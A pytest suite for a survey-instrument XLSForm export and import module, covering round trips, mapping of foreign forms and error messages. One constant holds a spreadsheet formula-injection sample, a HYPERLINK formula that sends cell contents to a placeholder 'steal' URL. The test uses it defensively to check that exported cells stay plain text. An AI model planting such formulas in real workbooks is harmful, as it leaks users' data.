"""XLSX (XLSForm) export and import: lossless round trips of our own workbooks, a reported
mapping of plain XLSForms from other tools, and one clear message for a broken file."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from instruments.errors import InstrumentError
from instruments.io.xlsform import ImportResult, RowNote, export_xlsx, read_xlsx
from instruments.library import builtin, builtin_instruments
from instruments.schema import Audience, Instrument, ItemType, parse_instrument

# A copy kept in the repository (see its README), so the test never depends on the layout.
SHARED_XLSFORM = Path(__file__).resolve().parents[1] / "data" / "xlsform"
SHARED_FILES = (
    "UCL_Biomass_Plot_Form.xlsx",
    "group.xlsx",
    "text_and_integer.xlsx",
    "xlsform_spec_test.xlsx",
    "yes_or_no_question.xlsx",
)

FORMULA = '=HYPERLINK("http://example.com/steal?"&A1,"Нажми")'
PHONE = "+7 (900) 000-00-00 — телефон доверия"

SYNTHETIC: dict[str, Any] = {
    "code": "synthetic",
    "version": 3,
    "title": {"ru": "Проверочная анкета", "en": "Test questionnaire"},
    "audience": "student",
    "grades": [5, 9],
    "languages": ["ru", "en"],
    "introduction": {"ru": PHONE, "en": "Hotline"},
    "consent": {"ru": "Я согласен(на)."},
    "notes": "@примечание\nвторая строка",
    "response_scales": [
        {
            "code": "agree4",
            "options": [
                {"value": 1, "label": {"ru": "Нет", "en": "No"}},
                {"value": 2, "label": {"ru": "Скорее нет"}},
                {"value": 3, "label": {"ru": "Скорее да"}},
                {"value": 4, "label": {"ru": "Да", "en": "Yes"}},
                {"value": 9, "label": {"ru": "Не знаю", "en": "Don't know"}, "missing": True},
            ],
        },
        {
            "code": "unused2",
            "options": [{"value": 0, "label": "Нет"}, {"value": 1, "label": "Да"}],
        },
    ],
    "sections": [
        {
            "code": "about",
            "title": {"ru": "О тебе", "en": "About you"},
            "items": [
                {"code": "grade", "type": "grade", "text": "В каком классе?", "required": True},
                {"code": "letter", "type": "class_letter", "text": "Буква класса"},
                {
                    "code": "letter_own",
                    "type": "class_letter",
                    "text": "Буква класса (свой список)",
                    "options": [{"value": "А", "label": "А"}, {"value": "Я", "label": "Я"}],
                },
                {
                    "code": "lang",
                    "type": "single_choice",
                    "text": FORMULA,
                    "help": {"ru": "=1+1", "en": "-1"},
                    "options": [
                        {"value": 1, "label": {"ru": "Русский", "en": "Russian"}},
                        {"value": 2, "label": "-другой"},
                    ],
                },
                {
                    "code": "mixed",
                    "type": "single_choice",
                    "text": "Значения разных типов",
                    "options": [{"value": "1", "label": "текст «1»"}, {"value": 2, "label": "2"}],
                },
                {
                    "code": "sports",
                    "type": "multiple_choice",
                    "text": "Чем ты занимаешься?",
                    "max_choices": 2,
                    "options": [
                        {"value": 1, "label": "Спорт"},
                        {"value": 2, "label": "Музыка"},
                        {"value": 3, "label": "Рисование"},
                        {"value": 99, "label": "Не знаю", "missing": True},
                    ],
                },
            ],
        },
        {
            "code": "details",
            "title": "Подробнее",
            "items": [
                {
                    "code": "hours",
                    "type": "number",
                    "text": "Сколько часов в неделю?",
                    "min": 0,
                    "max": 24.5,
                    "integer": False,
                    "unit": {"ru": "ч", "en": "h"},
                    "relevant": "selected(sports, 2) and grade >= 7",
                },
                {
                    "code": "phone",
                    "type": "text",
                    "text": PHONE,
                    "help": "@упоминание",
                    "relevant": "lang in [1, 2]",
                },
                {
                    "code": "story",
                    "type": "long_text",
                    "text": "\tРасскажи подробнее",
                    "relevant": "answered(phone) or not lang = 1",
                },
                {
                    "code": "q1",
                    "type": "likert",
                    "response_scale": "agree4",
                    "text": "Мне нравится школа",
                    "reverse": True,
                    "relevant": "letter_own = 'А'",
                },
                {
                    "code": "q2",
                    "type": "likert",
                    "response_scale": "agree4",
                    "text": "Мне интересно",
                    "required": True,
                },
                {
                    "code": "mx",
                    "type": "matrix",
                    "response_scale": "agree4",
                    "text": {"ru": "Насколько ты согласен(на)?", "en": "How far do you agree?"},
                    "help": "Отметь в каждой строке",
                    "required": True,
                    "relevant": "lang != 2",
                    "rows": [
                        {"code": "mx_1", "text": "Учителя помогают", "reverse": True},
                        {"code": "mx_2", "text": "Друзья помогают", "help": "=подсказка"},
                    ],
                },
            ],
        },
    ],
    "scales": [
        {
            "code": "s_risk",
            "title": {"ru": "Риск", "en": "Risk"},
            "items": ["q1", "mx_1", "mx_2"],
            "method": "sum",
            "min_answered": 0.75,
            "higher_is": "risk",
            "prevalence": {"label": "Доля с риском", "at_least": 3, "any_item": False},
            "cutoffs": {
                "statistic": "prevalence",
                "low_below": 0.1,
                "high_above": 0.3,
                "source": "=норма 2024",
            },
        },
        {
            "code": "s_fav",
            "title": "Интерес",
            "items": ["q2"],
            "higher_is": "favourable",
            "cutoffs": {"statistic": "mean", "low_below": 2, "high_above": 3.5},
        },
    ],
}


def synthetic() -> Instrument:
    return parse_instrument(SYNTHETIC)


INDICATORS = [
    {
        "factor": "parental_involvement",
        "code": "parent_involvement_pomp",
        "title": {"ru": "Вовлечённость родителей", "en": FORMULA},
        "scale": "parent_involvement",
        "statistic": "pomp",
        "direction": "favourable",
    },
    {
        "factor": "wellbeing",
        "code": "meetings_rarely",
        "title": {"ru": "Родители редко ходят на собрания"},
        "item": "meetings_attendance",
        "statistic": "share",
        "values": [3, 4],
        "direction": "risk",
        "weight": 0.5,
    },
]


def with_indicators() -> Instrument:
    data = builtin("parent").model_dump(mode="json", exclude_defaults=True)
    return parse_instrument({**data, "indicators": INDICATORS})


# --------------------------------------------------------------------------------------------
# helpers


def _edit(data: bytes, sheet: str, row: int, column: str, value: Any) -> bytes:
    """The workbook with one cell changed (column named by its header)."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    ws = workbook[sheet]
    headers = [cell.value for cell in ws[1]]
    ws.cell(row=row, column=headers.index(column) + 1).value = value
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _row_of(data: bytes, sheet: str, column: str, value: Any) -> int:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    ws = workbook[sheet]
    headers = [cell.value for cell in ws[1]]
    index = headers.index(column)
    for number, row in enumerate(ws.iter_rows(values_only=True), start=1):
        if row[index] == value:
            return number
    raise AssertionError(f"{value!r} not in {sheet}.{column}")


def _workbook(sheets: dict[str, list[list[Any]]]) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        ws = workbook.create_sheet(title)
        for row in rows:
            ws.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _refused(data: bytes, source: str = "broken.xlsx") -> str:
    with pytest.raises(InstrumentError) as info:
        read_xlsx(data, source=source)
    message = str(info.value)
    assert message.startswith(f"{source}: "), message
    return message


def _rows(notes: list[RowNote], sheet: str = "survey") -> set[int]:
    return {note.row for note in notes if note.sheet == sheet}


# --------------------------------------------------------------------------------------------
# (a), (b) round trips


@pytest.mark.parametrize("instrument", builtin_instruments(), ids=lambda i: i.code)
def test_builtin_instruments_round_trip_losslessly(instrument: Instrument) -> None:
    result = read_xlsx(export_xlsx(instrument))
    assert result.instrument == instrument
    assert result.unmapped == []


def test_every_item_type_round_trips_and_formula_text_stays_text() -> None:
    instrument = synthetic()
    assert {item.type for s in instrument.sections for item in s.items} == set(ItemType)
    data = export_xlsx(instrument)

    result = read_xlsx(data, source="synthetic.xlsx")
    assert result.instrument == instrument
    assert result.unmapped == []
    again = result.instrument
    assert again is not None
    assert again.items_by_code()["mixed"].options is not None
    assert [o.value for o in again.items_by_code()["mixed"].options or []] == ["1", 2]
    assert again.missing_values(again.items_by_code()["mx_1"]) == frozenset({9})

    workbook = openpyxl.load_workbook(io.BytesIO(data))
    survey = workbook["survey"]
    cells = {cell.value: cell for row in survey.iter_rows() for cell in row if cell.value}
    for text in (FORMULA, PHONE, "=1+1", "-1", "@упоминание", "\tРасскажи подробнее"):
        cell = cells[text]
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text
    assert not cells["Мне интересно"].quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name


def test_export_follows_xlsform_conventions() -> None:
    data = export_xlsx(synthetic())
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert workbook.sheetnames == ["survey", "choices", "settings", "scales"]
    survey = list(workbook["survey"].iter_rows(values_only=True))
    header = survey[0]
    rows = {row[header.index("name")]: dict(zip(header, row, strict=True)) for row in survey[1:]}
    assert rows["about"]["type"] == "begin group"
    assert rows["q1"]["type"] == "select_one agree4"
    assert rows["q1"]["appearance"] == "likert"
    assert rows["q1"]["reverse"] == "yes"
    assert rows["lang"]["type"] == "select_one opts_lang"
    assert rows["sports"]["type"] == "select_multiple opts_sports"
    assert rows["letter"]["type"] == "select_one class_letters"
    assert rows["hours"]["type"] == "decimal"
    assert rows["hours"]["constraint"] == ". >= 0 and . <= 24.5"
    assert rows["story"]["appearance"] == "multiline"
    assert rows["grade"]["rootcause_type"] == "grade"
    assert rows["mx"]["type"] == "begin group"
    assert rows["mx"]["appearance"] == "field-list"
    assert rows["mx_1"]["rootcause_type"] == "matrix_row"
    assert rows["hours"]["relevant"] == "selected(${sports}, '2') and ${grade} >= 7"
    assert rows["hours"]["rootcause_relevant"] == "selected(sports, 2) and grade >= 7"
    assert rows["phone"]["relevant"] == "(${lang} = 1 or ${lang} = 2)"
    settings = list(workbook["settings"].iter_rows(values_only=True))
    assert dict(zip(settings[0], settings[1], strict=True))["form_id"] == "synthetic"
    workbook.close()


def test_indicators_round_trip_on_their_own_sheet() -> None:
    instrument = with_indicators()
    data = export_xlsx(instrument)

    result = read_xlsx(data, source="parent.xlsx")
    assert result.instrument == instrument
    assert result.unmapped == []
    assert result.instrument is not None
    assert [i.values for i in result.instrument.indicators] == [None, [3, 4]]

    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["survey", "choices", "settings", "scales", "indicators"]
    rows = list(workbook["indicators"].iter_rows(values_only=True))
    assert rows[0] == (
        "factor",
        "code",
        "title::ru",
        "title::en",
        "scale",
        "item",
        "statistic",
        "values",
        "direction",
        "weight",
    )
    assert rows[2][rows[0].index("values")] == "3, 4"
    title = workbook["indicators"].cell(row=2, column=rows[0].index("title::en") + 1)
    assert title.value == FORMULA
    assert title.data_type == "s"
    assert title.quotePrefix


def test_indicators_sheet_of_a_plain_xlsform_is_read_too() -> None:
    data = _workbook(
        {
            "survey": [
                ["type", "name", "label"],
                ["select_one yn", "Meetings", "Ходите на собрания?"],
            ],
            "choices": [["list_name", "name", "label"], ["yn", "1", "Да"], ["yn", "2", "Нет"]],
            "indicators": [
                ["factor", "code", "title", "item", "statistic", "values", "direction"],
                ["parental_involvement", "no_meetings", "Не ходят", "Meetings", "share", 2, "risk"],
            ],
        }
    )
    result = read_xlsx(data, source="plain.xlsx")
    assert result.instrument is not None
    (indicator,) = result.instrument.indicators
    assert (indicator.item, indicator.values, indicator.weight) == ("meetings", [2], 1.0)
    assert "indicators" not in {note.sheet for note in result.unmapped}


def test_xlsform_relevance_is_used_when_our_own_condition_column_is_emptied() -> None:
    instrument = synthetic()
    data = export_xlsx(instrument)
    for code in ("hours", "phone", "story", "q1", "mx"):
        data = _edit(
            data, "survey", _row_of(data, "survey", "name", code), "rootcause_relevant", None
        )
    again = read_xlsx(data).instrument
    assert again is not None
    assert again.items_by_code()["phone"].relevant == "(lang = 1 or lang = 2)"
    samples: list[dict[str, Any]] = [
        {},
        {"sports": [2], "grade": 8, "lang": 1, "letter_own": "А"},
        {"sports": [1], "grade": 8, "lang": 2, "phone": "x"},
        {"sports": [2, 3], "grade": 6, "lang": 2, "letter_own": "Я"},
    ]
    for code, condition in instrument.conditions.items():
        for answers in samples:
            assert again.conditions[code](answers) == condition(answers), (code, answers)


# --------------------------------------------------------------------------------------------
# (c) plain XLSForms from other tools


@pytest.fixture(scope="module")
def shared() -> Path:
    if not SHARED_XLSFORM.is_dir():
        pytest.fail(f"нет папки с XLSForm-файлами {SHARED_XLSFORM}", pytrace=False)
    return SHARED_XLSFORM


def _import_or_refuse(path: Path) -> ImportResult | None:
    try:
        result = read_xlsx(path)
    except InstrumentError as exc:
        assert path.name in str(exc)
        return None
    for note in result.mapped + result.unmapped:
        assert note.row >= 1 and note.sheet and note.what and note.reason
    return result


@pytest.mark.parametrize("name", SHARED_FILES)
def test_shared_xlsforms_import_or_are_refused_cleanly(shared: Path, name: str) -> None:
    result = _import_or_refuse(shared / name)
    if result is None:
        return
    assert result.instrument is not None
    assert result.instrument.audience is Audience.student
    assert any("аудитория" in n.what and "student" in n.reason for n in result.mapped)


def test_biomass_form_reports_repeats_calculations_and_media_by_row(shared: Path) -> None:
    result = _import_or_refuse(shared / "UCL_Biomass_Plot_Form.xlsx")
    assert result is not None and result.instrument is not None
    unmapped = _rows(result.unmapped)
    assert {26, 27, 33, 39} <= unmapped  # calculate rows, outside and inside repeats
    assert {32, 43, 56, 72, 80} <= unmapped  # begin repeat rows
    assert {22, 23, 16, 11, 91} <= unmapped  # geopoint, image, select_one_from_file, start, …
    reasons = {note.row: note.reason for note in result.unmapped if note.sheet == "survey"}
    assert "вычисляемое" in reasons[26]
    assert "повторяющ" in reasons[32]
    assert "повторяющейся группы 'trees' (строка 32)" in reasons[34]
    items = result.instrument.items_by_code()
    assert items["leader_name_other"].relevant == "leader_name = 'other'"
    assert [o.value for o in items["plant_phase"].options or []][:2] == [2022, 2023]
    assert items["disturbance"].type is ItemType.multiple_choice
    assert "tag" not in items  # inside a repeat
    assert result.instrument.items_by_code()["leader_name"].text["en"] == "Your Name"


def test_spec_form_translates_group_relevance_and_renames_bad_names(shared: Path) -> None:
    result = _import_or_refuse(shared / "xlsform_spec_test.xlsx")
    assert result is not None and result.instrument is not None
    instrument = result.instrument
    assert instrument.code == "spec_test"
    assert instrument.title["ru"] == "Spec test"
    items = instrument.items_by_code()
    assert items["my_name"].relevant == "not (skip_to_end = 'yes')"
    assert items["a_decimal"].integer is False
    assert "q_1" in items
    assert any(n.row == 54 and "q_1" in n.reason for n in result.mapped)
    unmapped = _rows(result.unmapped)
    assert {15, 30, 31, 34, 35, 40} <= unmapped  # repeat, acknowledge, date, geopoint, …
    assert 14 in unmapped  # constraint ". <= ${a_integer}" is not a simple range
    assert any(n.sheet == "columns" for n in result.unmapped)


def test_small_shared_forms_map_completely(shared: Path) -> None:
    group = _import_or_refuse(shared / "group.xlsx")
    assert group is not None and group.instrument is not None
    assert [s.code for s in group.instrument.sections] == ["main", "father"]
    assert group.unmapped == []
    text_and_integer = _import_or_refuse(shared / "text_and_integer.xlsx")
    assert text_and_integer is not None and text_and_integer.instrument is not None
    kinds = {i.code: i.type for i in text_and_integer.instrument.items()}
    assert kinds == {"your_name": ItemType.text, "your_age": ItemType.number}
    yes_no = _import_or_refuse(shared / "yes_or_no_question.xlsx")
    assert yes_no is not None and yes_no.instrument is not None
    good_day = yes_no.instrument.items_by_code()["good_day"]
    assert good_day.type is ItemType.single_choice
    assert [o.value for o in good_day.options or []] == ["yes", "no"]
    assert yes_no.instrument.title["ru"] == "yes_or_no_question"


def test_plain_xlsform_maps_constraints_relevance_likert_and_names() -> None:
    header = ["type", "name", "label", "hint", "required", "relevant", "constraint", "appearance"]
    data = _workbook(
        {
            "survey": [
                header,
                [
                    "integer",
                    "Возраст",
                    "Сколько тебе лет?",
                    None,
                    "yes",
                    None,
                    ". >= 7 and . <= 18",
                ],
                ["select_one freq", "how_often", "Как часто?", None, None, None, None, "likert"],
                ["select_one yn", "likes", "Нравится?"],
                ["text", "why", "Почему?", None, None, "${likes} = 'yes'"],
                ["begin group", "g1", "Группа", None, None, "${how_often} >= 2"],
                ["select_multiple yn", "multi", "Несколько"],
                ["text", "after", "После", None, None, "selected(${multi}, 'no')"],
                ["calculate", "calc"],
                ["note", "n1", "Заметка"],
                ["end group"],
                ["decimal", "ratio", "Доля", None, None, None, ". > 0"],
                [
                    "text",
                    "bad_rel",
                    "Условие",
                    None,
                    "${likes} = 'yes'",
                    "string-length(${why}) > 3",
                ],
                ["select_one nowhere", "lost", "Без списка"],
            ],
            "choices": [
                ["list_name", "name", "label"],
                *[["freq", n, f"{n} раз"] for n in range(1, 5)],
                ["yn", "yes", "Да"],
                ["yn", "no", "Нет"],
            ],
            "settings": [
                ["form_title", "form_id", "audience"],
                ["Моя форма", "Моя форма", "parent"],
            ],
        }
    )
    result = read_xlsx(data, source="plain.xlsx")
    instrument = result.instrument
    assert instrument is not None
    assert (instrument.code, instrument.audience) == ("moya_forma", Audience.parent)
    assert instrument.languages == ["ru"]
    items = instrument.items_by_code()
    age = items["vozrast"]
    assert (age.type, age.min, age.max, age.required) == (ItemType.number, 7, 18, True)
    assert items["how_often"].type is ItemType.likert
    assert instrument.response_scale("freq").values == [1, 2, 3, 4]
    assert [o.value for o in items["likes"].options or []] == ["yes", "no"]
    assert items["why"].relevant == "likes = 'yes'"
    assert items["multi"].relevant == "how_often >= 2"
    assert items["after"].relevant == "(how_often >= 2) and (selected(multi, 'no'))"
    assert items["ratio"].min is None and items["ratio"].integer is False
    assert items["bad_rel"].relevant is None and items["bad_rel"].required is False
    assert [s.code for s in instrument.sections] == ["main", "g1", "main_2"]
    assert "lost" not in items
    unmapped = {note.row: note.reason for note in result.unmapped if note.sheet == "survey"}
    assert "вычисляемое" in unmapped[9]
    assert "пояснительный" in unmapped[10]
    assert "не перенесено" in unmapped[12]
    assert "условие не переведено" in unmapped[13] or "обязательность" in unmapped[13]
    assert "nowhere" in unmapped[14]
    assert any(n.row == 2 and "vozrast" in n.reason for n in result.mapped)


def test_form_without_questions_imports_as_nothing_with_a_report() -> None:
    data = _workbook({"survey": [["type", "name", "label"], ["note", "hello", "Привет"]]})
    result = read_xlsx(data, source="empty.xlsx")
    assert result.instrument is None
    assert _rows(result.unmapped) >= {2}


# --------------------------------------------------------------------------------------------
# (d) broken files


def test_bytes_that_are_not_xlsx_are_refused() -> None:
    assert "не является файлом XLSX" in _refused(b"type,name\ntext,q1\n")
    assert "старый формат XLS" in _refused(b"\xd0\xcf\x11\xe0" + b"\0" * 100)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    assert "повреждён" in _refused(archive.getvalue())


def test_missing_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InstrumentError, match="не читается"):
        read_xlsx(tmp_path / "absent.xlsx")


def test_workbook_without_survey_sheet_is_refused() -> None:
    message = _refused(_workbook({"questions": [["type", "name"], ["text", "q1"]]}))
    assert re.search(r"broken\.xlsx: лист survey: .*questions", message)


def test_survey_without_required_column_is_refused() -> None:
    message = _refused(_workbook({"survey": [["name", "label"], ["q1", "Вопрос"]]}))
    assert message == "broken.xlsx: лист survey, строка 1, столбец type: нет обязательного столбца"


def test_unknown_type_in_our_own_format_names_sheet_row_and_column() -> None:
    data = export_xlsx(synthetic())
    row = _row_of(data, "survey", "name", "phone")
    message = _refused(_edit(data, "survey", row, "type", "select_whatever"), "form.xlsx")
    assert message == (
        f"form.xlsx: лист survey, строка {row}, столбец type: "
        "неизвестный тип вопроса 'select_whatever'"
    )


def test_unsupported_xlsform_type_is_an_error_in_our_own_format() -> None:
    data = export_xlsx(synthetic())
    row = _row_of(data, "survey", "name", "phone")
    message = _refused(_edit(data, "survey", row, "type", "calculate"))
    assert f"лист survey, строка {row}, столбец type: тип 'calculate' не переносится" in message


def test_scale_with_unknown_item_names_the_scales_row() -> None:
    data = export_xlsx(synthetic())
    message = _refused(_edit(data, "scales", 3, "items", "q2, nope"))
    assert message == "broken.xlsx: лист scales, строка 3, столбец items: неизвестный вопрос 'nope'"


def test_validation_problems_are_placed_at_their_rows() -> None:
    data = export_xlsx(synthetic())
    row = _row_of(data, "survey", "name", "q1")
    message = _refused(_edit(data, "survey", row, "rootcause_relevant", "q2 = 1"))
    assert message == (
        f"broken.xlsx: лист survey, строка {row}, столбец rootcause_relevant: "
        "условие показа: неизвестный вопрос 'q2' (позиция 1)"
    )
    message = _refused(_edit(data, "survey", row + 1, "reverse", "maybe"))
    assert f"лист survey, строка {row + 1}, столбец reverse: ожидалось true или false" in message
    option_row = _row_of(data, "choices", "label::ru", "Рисование")
    message = _refused(_edit(data, "choices", option_row, "label::ru", None))
    assert f"лист choices, строка {option_row}, столбец label::ru" in message


def test_bad_settings_in_our_own_format_name_the_settings_cell() -> None:
    data = export_xlsx(synthetic())
    message = _refused(_edit(data, "settings", 2, "audience", "pupils"))
    assert (
        message == "broken.xlsx: лист settings, строка 2, столбец audience: недопустимое значение"
    )
    message = _refused(_edit(data, "settings", 2, "grades", "пятые"))
    assert "лист settings, строка 2, столбец grades" in message


def test_broken_indicator_row_names_the_indicators_sheet_and_row() -> None:
    data = export_xlsx(with_indicators())
    message = _refused(_edit(data, "indicators", 2, "statistic", "median"))
    assert message == (
        "broken.xlsx: лист indicators, строка 2, столбец statistic: недопустимое значение"
    )
    message = _refused(_edit(data, "indicators", 3, "values", None))
    assert message == (
        "broken.xlsx: лист indicators, строка 3: для доли (share) нужны значения ответов (values)"
    )
